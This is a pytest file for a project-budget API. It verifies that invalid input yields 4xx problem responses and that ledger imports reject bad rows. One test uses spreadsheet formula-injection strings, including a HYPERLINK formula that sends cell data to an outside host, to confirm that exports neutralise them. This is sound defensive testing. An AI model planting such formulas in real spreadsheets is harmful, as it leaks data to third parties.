"""Bad input is a 4xx problem a person can act on, never a 500 (issues 10 and 13).

On the code before: ``PATCH /projects/{code}`` with ``{"cost_model": null}`` or ``period_start: null``
answered 500 and ``name: null`` 409; 9223372036854775808 as a claim or version number answered 500;
``entry_date: 0`` and ``?as_of=0`` were read as 1970-01-01; a control character in a description
was stored; PATCH of a cost without If-Match answered 200; any ``pilot_id`` was accepted.
"""

from __future__ import annotations

from collections.abc import Callable

import httpx
import pytest

from tests.budget.conftest import IDK, KUOPIO, PILOT_A, PILOT_ELSEWHERE, PilotsStub, entry

Auth = Callable[..., dict[str, str]]
HUGE = "9223372036854775808"


async def project_etag(client: httpx.AsyncClient, headers: dict[str, str]) -> dict[str, str]:
    return headers | {"If-Match": (await client.get(f"/projects/{IDK}", headers=headers)).headers["etag"]}


@pytest.mark.parametrize("field", ["cost_model", "period_start", "period_end", "name"])
async def test_patch_project_null_is_422(client: httpx.AsyncClient, auth: Auth, idk: str, field: str) -> None:
    pm = auth("project_manager")
    r = await client.patch(f"/projects/{idk}", json={field: None}, headers=await project_etag(client, pm))
    assert r.status_code == 422, r.text
    assert any(e["name"].endswith(field) and "cannot be null" in e["reason"] for e in r.json()["errors"])


async def test_patch_project_needs_a_fresh_if_match(client: httpx.AsyncClient, auth: Auth, idk: str) -> None:
    pm = auth("project_manager")
    assert (await client.patch(f"/projects/{idk}", json={"name": "X"}, headers=pm)).status_code == 428
    headers = await project_etag(client, pm)
    assert (await client.patch(f"/projects/{idk}", json={"name": "IDK"}, headers=headers)).status_code == 200
    stale = await client.patch(f"/projects/{idk}", json={"name": "IDK 2"}, headers=headers)
    assert stale.status_code == 412 and "current_etag" in stale.json()
    garbled = await client.patch(f"/projects/{idk}", json={"name": "IDK 2"}, headers=pm | {"If-Match": "v1"})
    assert garbled.status_code == 400


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", f"/projects/{IDK}/claims/{HUGE}"),
        ("DELETE", f"/projects/{IDK}/claims/{HUGE}"),
        ("POST", f"/projects/{IDK}/claims/{HUGE}/refresh"),
        ("POST", f"/projects/{IDK}/claims/{HUGE}/status"),
        ("GET", f"/projects/{IDK}/claims/{HUGE}/export"),
        ("GET", f"/projects/{IDK}/claims/{HUGE}/verify"),
        ("GET", f"/projects/{IDK}/versions/{HUGE}"),
        ("POST", f"/projects/{IDK}/versions/{HUGE}/make-current"),
        ("GET", f"/projects/{IDK}/versions/compare?a={HUGE}&b=1"),
        ("GET", f"/projects/{IDK}/versions/compare?a=1&b=-1"),
        ("GET", f"/projects/{IDK}/costs/{HUGE}"),
        ("GET", f"/projects/{IDK}/costs?claim_id={HUGE}"),
        ("GET", f"/projects/{IDK}/period-locks/{HUGE}"),
        ("GET", f"/projects/{IDK}/summary?as_of=0"),
        ("GET", f"/projects/{IDK}/figures/utilisation?as_of=2021-02-30"),
        ("GET", f"/projects/{IDK}/costs?date_from=1"),
    ],
)
async def test_out_of_range_numbers_and_dates_in_paths_are_422(
    client: httpx.AsyncClient, auth: Auth, idk: str, method: str, path: str
) -> None:
    r = await client.request(
        method, path, headers=auth("admin") | {"If-Match": '"v1"'}, json={"status": "submitted"}
    )
    assert r.status_code == 422, (path, r.status_code, r.text)
    assert r.headers["content-type"].startswith("application/problem+json")


@pytest.mark.parametrize(
    ("overrides", "field"),
    [
        ({"entry_date": 0}, "entry_date"),
        ({"entry_date": "0"}, "entry_date"),
        ({"entry_date": "20210315"}, "entry_date"),
        ({"posted_on": 0}, "posted_on"),
        ({"description": "Kokeilu \u0001"}, "description"),
        ({"description": "=HYPERLINK(\u0007)"}, "description"),
        ({"voucher_ref": "V\n1"}, "voucher_ref"),
    ],
)
async def test_bad_entry_values_are_422(
    client: httpx.AsyncClient, auth: Auth, idk: str, overrides: dict[str, object], field: str
) -> None:
    r = await client.post(
        f"/projects/{idk}/costs", json=entry(**overrides), headers=auth("finance", implementer=KUOPIO)
    )
    assert r.status_code == 422, r.text
    assert any(e["name"].endswith(field) for e in r.json()["errors"]), r.json()


async def test_patch_of_a_cost_needs_if_match(client: httpx.AsyncClient, auth: Auth, idk: str) -> None:
    fin = auth("finance", implementer=KUOPIO)
    url = f"/projects/{idk}/costs/{(await client.post(f'/projects/{idk}/costs', json=entry(), headers=fin)).json()['id']}"
    missing = await client.patch(url, json={"amount": "2.00"}, headers=fin)
    assert missing.status_code == 428 and missing.json()["type"].endswith("/if-match-required")
    weak = await client.patch(url, json={"amount": "2.00"}, headers=fin | {"If-Match": 'W/"v1"'})
    assert weak.status_code == 412
    null = await client.patch(url, json={"amount": None}, headers=fin | {"If-Match": '"v1"'})
    assert null.status_code == 422
    cleared = await client.patch(url, json={"pilot_id": None}, headers=fin | {"If-Match": '"v1"'})
    assert cleared.status_code == 200 and cleared.json()["pilot_id"] is None


async def test_pilot_of_a_cost_is_checked_when_written(
    client: httpx.AsyncClient, auth: Auth, idk: str, pilots_stub: PilotsStub
) -> None:
    fin = auth("finance", implementer=KUOPIO, subject="kirsi")
    missing = await client.post(f"/projects/{idk}/costs", json=entry(pilot_id="no-such-pilot"), headers=fin)
    assert missing.status_code == 422 and missing.json()["type"].endswith("/unknown-pilot")
    assert (
        "no-such-pilot" in missing.json()["detail"] and missing.json()["errors"][0]["name"] == "body.pilot_id"
    )
    other = await client.post(f"/projects/{idk}/costs", json=entry(pilot_id=PILOT_ELSEWHERE), headers=fin)
    assert other.status_code == 422 and "belongs to project S99001" in other.json()["detail"]
    ok = await client.post(f"/projects/{idk}/costs", json=entry(pilot_id=PILOT_A), headers=fin)
    assert ok.status_code == 201
    assert (f"/pilots/{PILOT_A}/relation", "kirsi") in pilots_stub.calls  # asked with the caller's token
    url = f"/projects/{idk}/costs/{ok.json()['id']}"
    moved = await client.patch(url, json={"pilot_id": PILOT_ELSEWHERE}, headers=fin | {"If-Match": '"v1"'})
    assert moved.status_code == 422
    assert (await client.get(f"/projects/{idk}/costs", headers=fin)).json()["items"][0]["pilot_id"] == PILOT_A
    pilots_stub.down = True
    down = await client.post(
        f"/projects/{idk}/costs", json=entry(voucher_ref="V-9", pilot_id=PILOT_A), headers=fin
    )
    assert down.status_code == 503


async def test_import_rows_with_bad_pilots_are_rejected_by_line(
    client: httpx.AsyncClient, auth: Auth, idk: str
) -> None:
    fin = auth("finance", implementer=KUOPIO)
    header = "Tosite;Tositepäivä;Tili;Tilin nimi;Kustannuspaikka;Projekti;Selite;Debet;Kredit;Kustannuslaji;Toteuttaja;Pilotti\r\n"
    rows = (
        header
        + f"P-1;3.2.2020;4000;Palkat;1721;{idk};a;10,00;;;;{PILOT_A}\r\n"
        + f"P-2;4.2.2020;4000;Palkat;1721;{idk};b;10,00;;;;nope\r\n"
        + f"P-3;5.2.2020;4000;Palkat;1721;{idk};c;10,00;;;;{PILOT_ELSEWHERE}\r\n"
    )
    url = f"/projects/{idk}/ledger/import?implementer={KUOPIO}"
    dry = (
        await client.post(url + "&dry_run=true", files={"file": ("x.csv", rows.encode())}, headers=fin)
    ).json()
    rejected = {x["line"]: x["errors"] for x in dry["lines"] if x["action"] == "reject"}
    assert set(rejected) == {3, 4} and "nope" in rejected[3][0] and "S99001" in rejected[4][0]
    real = await client.post(url + "&dry_run=false", files={"file": ("x.csv", rows.encode())}, headers=fin)
    assert real.status_code == 422 and [e["line"] for e in real.json()["errors"]] == [3, 4]
    assert (await client.get(f"/projects/{idk}/costs", headers=fin)).json()["items"] == []


async def test_exports_neutralise_formulas_and_type_their_cells(
    client: httpx.AsyncClient, auth: Auth, idk: str
) -> None:
    import io

    from openpyxl import load_workbook

    fin = auth("finance", implementer=KUOPIO)
    formulas = ['=HYPERLINK("http://x/?"&B2,"invoice")', "+SUM(A1:A9)", "@SUM(A1)", "-2+3"]
    for n, text in enumerate(formulas):
        r = await client.post(
            f"/projects/{idk}/costs",
            json=entry(voucher_ref=f"F{n}", description=text, entry_date="2020-02-03"),
            headers=fin,
        )
        assert r.status_code == 201, r.text
    made = await client.post(
        f"/projects/{idk}/claims",
        json={"period_start": "2020-01-01", "period_end": "2020-06-30"},
        headers=fin,
    )
    for url in (
        f"/projects/{idk}/ledger/export?format=xlsx",
        f"/projects/{idk}/claims/{made.json()['number']}/export?format=xlsx",
    ):
        book = load_workbook(io.BytesIO((await client.get(url, headers=fin)).content))
        sheet = book.active
        assert sheet is not None
        cells = [c for row in sheet.iter_rows() for c in row]
        assert not any(c.data_type == "f" for c in cells), url
        texts = {c.value for c in cells if isinstance(c.value, str)}
        assert {"'" + t for t in formulas} <= texts, url
        assert any(c.is_date for c in cells) and any(c.data_type == "n" for c in cells), url
    csv_text = (await client.get(f"/projects/{idk}/ledger/export", headers=fin)).content.decode("utf-8-sig")
    assert "'=HYPERLINK" in csv_text and ";=HYPERLINK" not in csv_text


@pytest.mark.parametrize(
    ("content", "status"),
    [
        (b"\x00\x01\x02\xff\xfe binary", 400),
        ("Tosite;Tositepäivä\r\n1;1.1.2020\r\n".encode(), 422),
        (
            (
                "Tosite;Tositepäivä;Tili;Tilin nimi;Kustannuspaikka;Projekti;Selite;Debet;Kredit\r\nV;3.2.2020;4000;x;1;S21894;"
                + "a" * 140_000
                + ";1,00;\r\n"
            ).encode(),
            422,
        ),
    ],
)
async def test_unreadable_imports_are_problems(
    client: httpx.AsyncClient, auth: Auth, idk: str, content: bytes, status: int
) -> None:
    fin = auth("finance", implementer=KUOPIO)
    r = await client.post(
        f"/projects/{idk}/ledger/import?dry_run=false", files={"file": ("x.csv", content)}, headers=fin
    )
    assert r.status_code == status, r.text
    assert r.headers["content-type"].startswith("application/problem+json")
    assert (await client.get(f"/projects/{idk}/costs", headers=fin)).json()["items"] == []
